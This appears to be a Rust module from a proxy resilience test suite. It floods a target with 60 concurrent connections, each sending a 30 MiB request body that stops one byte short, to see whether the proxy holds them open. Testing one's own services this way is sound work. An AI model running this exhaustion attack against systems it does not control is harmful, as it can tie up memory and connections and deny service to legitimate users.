//! Large bodies without their last byte.

use std::net::SocketAddr;
use std::time::Duration;

use futures_util::future::join_all;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::timeout;

use super::chat_head;

/// Number of bodies.
const BODIES: usize = 60;

/// Size of each body in bytes.
const LENGTH: usize = 30 * 1024 * 1024;

/// Bytes per write.
const PIECE: usize = 64 * 1024;

pub(super) async fn attack(target: SocketAddr, length: Duration) -> Result<String, String> {
    let bodies = join_all((0..BODIES).map(|_| timeout(length, body(target)))).await;
    // Bodies that were neither refused nor closed are still held.
    let held = bodies.into_iter().filter(Result::is_err).count();
    Ok(format!("{held} of {BODIES} held at the end, the others refused"))
}

/// Sends all but the last byte, and waits until the proxy responds or closes the connection.
async fn body(target: SocketAddr) {
    let Ok(mut socket) = TcpStream::connect(target).await else { return };
    if socket.write_all(chat_head(LENGTH).as_bytes()).await.is_err() {
        return;
    }
    let piece = [b'x'; PIECE];
    let mut left = LENGTH - 1;
    while left > 0 {
        let next = left.min(PIECE);
        if socket.write_all(&piece[..next]).await.is_err() {
            return;
        }
        left -= next;
    }
    // A response, end of file or reset means that the body is not held.
    let _ = socket.read(&mut [0]).await;
}
